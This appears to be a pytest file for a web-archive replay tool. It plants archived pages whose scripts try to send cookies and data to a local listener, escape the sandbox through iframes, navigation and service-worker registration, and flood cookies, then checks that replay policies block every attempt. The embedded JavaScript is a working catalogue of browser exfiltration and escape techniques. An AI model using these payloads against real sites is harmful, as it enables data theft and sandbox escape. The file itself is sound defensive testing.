"""Hostile pages, replayed: XML documents run as they were archived, so that only policies hold them."""

from __future__ import annotations

import http.server
import json
import socket
import threading
from collections.abc import Iterator
from contextlib import suppress

import pytest

import seekwarc
from tests.conftest import WABAC
from tests.support.processes import settles
from tests.support.writing import response

pytestmark = [pytest.mark.slow, pytest.mark.needs("chromium", "module:playwright", "wabac")]

SITE = "https://www.example.org"
DATE = "2026-01-01T12:00:00Z"
HOSTS = ("127.0.0.1", "other.localhost", "replay.localhost")
KINDS = {
    "html": ("text/html", "<!doctype html><title>x</title><body><script>SCRIPT</script>"),
    "xhtml": (
        "application/xhtml+xml",
        '<html xmlns="http://www.w3.org/1999/xhtml"><head/><body><script>//<![CDATA[\nSCRIPT\n//]]></script></body></html>',
    ),
    "svg": (
        "image/svg+xml",
        '<svg xmlns="http://www.w3.org/2000/svg"><script>//<![CDATA[\nSCRIPT\n//]]></script></svg>',
    ),
}
TOOLS = """
const tried = {}, HTML = "http://www.w3.org/1999/xhtml";
const element = (name, fields, where = document.body ?? document.documentElement) => {
  const made = where.ownerDocument.createElementNS(HTML, name);
  for (const [field, value] of Object.entries(fields)) made.setAttribute(field, value);
  where.append(made);
  return made;
};
const attempt = async (name, work) => {
  const late = new Promise((done) => setTimeout(done, 1500, "no answer"));
  try { tried[name] = String(await Promise.race([work(), late])); } catch (error) { tried[name] = "refused"; }
};
const finish = () => { globalThis.tried = tried; };
"""
LOADS = (
    TOOLS
    + """
(async () => {
  for (const to of TARGETS) {
    const ws = to.replace("http", "ws");
    await Promise.all([
      attempt("fetch " + to, async () => (await fetch(to + "fetch")).text()),
      attempt("opaque " + to, async () => (await fetch(to + "opaque", { mode: "no-cors" })).type),
      attempt("post " + to, async () => (await fetch(to + "post", { method: "POST", body: "x" })).text()),
      attempt("xhr " + to, () => new Promise((done, failed) => {
        const request = new XMLHttpRequest();
        request.open("GET", to + "xhr");
        request.onload = () => done(request.responseText);
        request.onerror = failed;
        request.send();
      })),
      attempt("beacon " + to, () => navigator.sendBeacon(to + "beacon", "secret")),
      attempt("socket " + to, () => new Promise((done, failed) => {
        const socket = new WebSocket(ws + "socket");
        socket.onopen = () => done("open");
        socket.onerror = failed;
      })),
      attempt("events " + to, () => new Promise((done, failed) => {
        const source = new EventSource(to + "events");
        source.onopen = () => done("open");
        source.onerror = failed;
      })),
      attempt("import " + to, () => import(to + "module")),
      attempt("worker " + to, () => new Worker(to + "worker")),
      attempt("blob worker " + to, () => new Promise((done) => {
        const code = `fetch("${to}blob").then(() => postMessage("sent"), () => postMessage("refused"));
          try { importScripts("${to}imported") } catch {}`;
        new Worker(URL.createObjectURL(new Blob([code]))).onmessage = (event) => done(event.data);
      })),
      attempt("image " + to, () => { new Image().src = to + "image"; }),
      attempt("media " + to, () => { new Audio(to + "media").load(); }),
      attempt("ping " + to, () => element("a", { href: "#", ping: to + "ping" }).click()),
      attempt("style " + to, () => {
        element("style", {}).textContent = `@import "${to}import"; * { background: url(${to}background) }`;
      }),
      attempt("frames " + to, () => {
        for (const name of ["iframe", "embed", "img", "script", "input"]) {
          element(name, { src: to + name, type: "image" });
        }
        element("object", { data: to + "object" });
        for (const rel of ["stylesheet", "prefetch", "preload", "modulepreload", "icon", "manifest"]) {
          element("link", { rel, href: to + rel, as: "script" });
        }
        element("script", { type: "speculationrules" }).textContent =
          JSON.stringify({ prefetch: [{ urls: [to + "speculated"], eagerness: "immediate" }] });
      }),
      attempt("window " + to, () => window.open(to + "window")),
    ]);
  }
  await attempt("cookie", () => document.cookie);
  await attempt("worker of ours", () =>
    navigator.serviceWorker.register("/raw/2026id_/https://www.example.org/worker.js", { scope: "/raw/" }));
  await attempt("wabac without its guard", () =>
    navigator.serviceWorker.register("/wabac.js", { scope: "/" }));
  await attempt("interface of the worker", async () => (await fetch("/api/coll-index")).status);
  finish();
})();
"""
)
NAVIGATION = {
    "top": "top.location = TO",
    "parent": "parent.location.replace(TO)",
    "link-to-the-top": 'element("a", { href: TO, target: "_top" }).click()',
    "link-in-the-page-around": 'element("a", { href: TO }, parent.document.body).click()',
    "window": 'element("a", { href: TO, target: "_blank", rel: "opener" }).click()',
    "itself": "location = TO",
    "form": 'element("form", { action: TO }).submit()',
    "form-to-the-top": 'element("form", { action: TO, target: "_top" }).submit()',
    "form-to-a-window": 'element("form", { action: TO, target: "_blank" }).submit()',
    "download": 'element("a", { href: TO, download: "x" }).click()',
    "refresh": 'element("meta", { "http-equiv": "refresh", content: "0; url=" + TO }, document.head)',
}
CONFIGURATION = (
    TOOLS
    + """
(async () => {
  const config = (prefix, csp) => ({ prefix, isLive: false, archivePrefix: "/raw/", archiveMod: "id_",
    baseUrl: "/web/", baseUrlAppendReplay: true, noPostToGet: true, csp });
  const add = (name, extraConfig) => navigator.serviceWorker.controller.postMessage({
    msg_type: "addColl", name, type: "live", skipExisting: false, file: { sourceUrl: "proxy:" }, extraConfig,
  });
  if (!location.search) {
    add("web", config("", "default-src * 'unsafe-inline'"));
    add("live", { prefix: TO, isLive: true });
    await new Promise((done) => setTimeout(done, 1500));
    await attempt("live", async () => (await fetch("/live/mp_/" + TO)).text());
    location.search = "?again";
    return;
  }
  await attempt("socket", () => new Promise((done, failed) => {
    const socket = new WebSocket(TO.replace("http", "ws"));
    socket.onopen = () => done("open");
    socket.onerror = failed;
  }));
  await attempt("fetch", async () => (await fetch(TO)).text());
  finish();
})();
"""
)

ESCAPE = (
    TOOLS
    + """
const loaded = async (src) => {
  const frame = element("iframe", {});
  const done = new Promise((done) => { frame.onload = done; setTimeout(done, 4000); });
  frame.src = src;
  await done;
  return frame.contentWindow;
};
const from = (frame, name, asks = true) => Promise.all([
  attempt("fetch " + name, async () => (await frame.fetch(TO + "fetch", { mode: "no-cors" })).type),
  attempt("beacon " + name, () => frame.navigator.sendBeacon(TO + "beacon", "secret")),
  attempt("worker " + name, () => new Promise((done, failed) => {
    const worker = new frame.Worker(frame.URL.createObjectURL(new frame.Blob([`fetch("${TO}worker")`])));
    worker.onerror = failed;
  })),
  attempt("socket " + name, () => new Promise((done, failed) => {
    const socket = new frame.WebSocket(TO.replace("http", "ws") + "socket");
    socket.onopen = () => done("open");
    socket.onerror = failed;
  })),
  attempt("events " + name, () => new Promise((done, failed) => {
    const source = new frame.EventSource(TO + "events");
    source.onopen = () => done("open");
    source.onerror = failed;
  })),
  attempt("image " + name, () => { new frame.Image().src = TO + "image"; }),
  attempt("rtc " + name, async () => {
    if (!asks) throw new Error("no policy forbids it");
    const urls = "stun:" + TO.replace(/http:..|.$/g, "");
    const peer = new frame.RTCPeerConnection({ iceServers: [{ urls }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
    return "asked";
  }),
]);
(async () => {
  for (const it of await navigator.serviceWorker.getRegistrations()) await it.unregister();
  const long = "b".repeat(70000);
  const places = {
    path: "/" + long, query: "/?" + long, missing: "/nothing", raw: "/raw/", other: "/raw/id_/" + SITE + "/x",
    wabac: "/wabac.js", script: "/replay-start.js", start: "/", api: "/api/summary", escaped: "/%ff%00",
  };
  for (const [name, place] of Object.entries(places)) await from(await loaded(place), name);
  await from(await loaded("/sw.js"), "worker", false);
  for (let at = 0; at < 60; at += 1) document.cookie = `bomb${at}=${"x".repeat(3900)}; path=/`;
  tried.filled = String(document.cookie.length > 200000);
  await from(await loaded("/after-cookies"), "cookies");
  tried.left = String(document.cookie.includes("bomb"));
  finish();
})();
"""
)


class Listener(http.server.ThreadingHTTPServer):
    """Another program of this computer, which writes down what it is asked for."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        super().__init__(("127.0.0.1", 0), _Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()
        # What WebRTC asks, which it does without a connection.
        self.datagrams = socket.socket(type=socket.SOCK_DGRAM)
        self.datagrams.bind(self.server_address)
        threading.Thread(target=self._receive, daemon=True).start()

    def _receive(self) -> None:
        with suppress(OSError):
            while True:
                self.asked.append(f"datagram {self.datagrams.recv(2000)!r}")


class _Handler(http.server.BaseHTTPRequestHandler):
    server: Listener

    def do_GET(self) -> None:
        self.server.asked.append(f"{self.command} {self.headers['host']}{self.path}")
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Set-Cookie", "theirs=secret")
        self.end_headers()
        self.wfile.write(b"an answer")

    do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.shutdown()
    made.server_close()
    made.datagrams.close()


@pytest.fixture(scope="module")
def replay(serve, listener, tmp_path_factory) -> str:
    """The address of a replay of hostile pages."""
    targets = json.dumps([f"http://{host}:{listener.server_port}/" for host in HOSTS])
    to = f"http://127.0.0.1:{listener.server_port}/"
    scripts = {
        "plain": f'{TOOLS}attempt("cookie", () => document.cookie).then(finish)',
        "escape": f'const TO = "{to}", SITE = "{SITE}";{ESCAPE}',
        "loads": f"const TARGETS = {targets};{LOADS}",
        "configuration": f'const TO = "{to}";{CONFIGURATION}',
    }
    for name, statement in NAVIGATION.items():
        tried = f'attempt("it", () => {{ {statement} }}).then(finish)'
        scripts[name] = f'const TO = "{to}{name}";{TOOLS}{tried}'
    path = tmp_path_factory.mktemp("hostile") / "hostile.warc.zst"
    with seekwarc.open(path, "w", threads=1) as out:
        for kind, (media_type, document) in KINDS.items():
            for name, script in scripts.items():
                for query in ("", "?again"):
                    block = response(document.replace("SCRIPT", script).encode(), media_type)
                    out.write_response(f"{SITE}/{name}.{kind}{query}", block, date=DATE)
        worker = b"self.addEventListener('fetch', (event) => event.respondWith(new Response('owned')))"
        out.write_response(f"{SITE}/worker.js", response(worker, "text/javascript"), date=DATE)
    return serve(path, "--replay", str(WABAC)).json("api/summary")["replay"]


def shown(page, replay: str, name: str) -> dict[str, str]:
    """Open a page, and return what its script says that it has tried; nothing if it went elsewhere."""
    page.goto(f"{replay}web/2026/{SITE}/{name}")
    found: list[dict[str, str]] = []

    def is_shown() -> bool:
        with suppress(Exception):
            (frame,) = (it for it in page.frames if it.parent_frame == page.main_frame)
            if frame.url == "chrome-error://chromewebdata/":
                found.append({})
            elif frame.evaluate("'tried' in globalThis"):
                # What was begun may be on its way.
                page.wait_for_timeout(700)
                found.append(frame.evaluate("globalThis.tried"))
        return bool(found)

    assert settles(is_shown, lambda: page.wait_for_timeout(200)), [it.url for it in page.frames]
    return found[0]


@pytest.mark.parametrize("kind", KINDS)
def test_no_request_leaves_for_another_host_or_port(replay, listener, page, kind) -> None:
    page.goto(f"http://127.0.0.1:{listener.server_port}/")
    assert page.evaluate("document.cookie") == "theirs=secret"
    listener.asked.clear()
    tried = shown(page, replay, f"loads.{kind}")
    assert listener.asked == []
    assert "secret" not in tried["cookie"]
    assert len(page.context.pages) == 1
    assert page.url.startswith(replay)
    if kind != "html":
        # Without rewriting, the browser itself refuses.
        assert not {"an answer", "opaque", "open", "sent"} & set(tried.values())
        assert (tried["worker of ours"], tried["wabac without its guard"]) == ("refused", "refused")
        assert tried["interface of the worker"] == "403"


@pytest.mark.parametrize("name", NAVIGATION)
def test_neither_the_top_nor_a_window_is_navigated(replay, listener, page, name) -> None:
    listener.asked.clear()
    shown(page, replay, f"{name}.xhtml")
    assert listener.asked == []
    assert len(page.context.pages) == 1
    assert page.url.startswith(replay)


def test_the_worker_keeps_its_collection_and_policies(replay, listener, page) -> None:
    listener.asked.clear()
    assert shown(page, replay, "configuration.xhtml") == {"socket": "refused", "fetch": "refused"}
    assert listener.asked == []


def test_no_answer_without_the_worker_is_a_way_out(replay, listener, page) -> None:
    listener.asked.clear()
    tried = shown(page, replay, "escape.xhtml")
    assert listener.asked == []
    assert (tried.pop("filled"), tried.pop("left")) == ("true", "false")
    assert {value for name, value in tried.items() if not name.startswith(("beacon worker", "image"))} == {
        "refused"
    }


@pytest.mark.parametrize("count", [60, 170])
def test_cookies_lock_nothing(replay, pages, count) -> None:
    # A browser without other pages of this site: their requests, too, would have the cookies cleared.
    with pages.browser.new_context() as context:
        context.add_cookies(
            [{"name": f"bomb{it}", "value": "x" * 3900, "url": replay} for it in range(count)]
        )
        page = context.new_page()
        assert page.goto(f"{replay}web/2026/{SITE}/plain.xhtml").status == 431
        assert page.reload().status == 200
        assert context.cookies() == []
        shown(page, replay, "plain.xhtml")
        assert "may be untrue" in page.inner_text("#claim")


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_archived_scripts_have_no_cookies_of_other_programs(replay, page, host) -> None:
    page.context.add_cookies([{"name": "theirs", "value": "secret", "url": f"http://{host}/"}])
    address = replay.replace("replay.localhost", host)
    page.goto(f"{address}web/2026/{SITE}/plain.xhtml")
    assert page.url == f"{replay}web/2026/{SITE}/plain.xhtml"
    assert "theirs" not in shown(page, address, "plain.xhtml")["cookie"]
